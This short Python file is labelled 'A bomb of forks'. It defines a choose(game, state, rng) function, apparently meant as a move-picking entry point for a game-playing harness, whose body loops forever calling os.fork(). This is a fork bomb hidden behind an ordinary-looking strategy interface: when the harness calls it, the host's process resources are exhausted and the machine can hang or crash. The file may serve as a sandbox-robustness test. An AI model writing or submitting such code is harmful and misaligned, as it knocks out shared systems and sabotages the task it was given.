"""A bomb of forks."""

import os


def choose(game, state, rng):
    while True:
        os.fork()
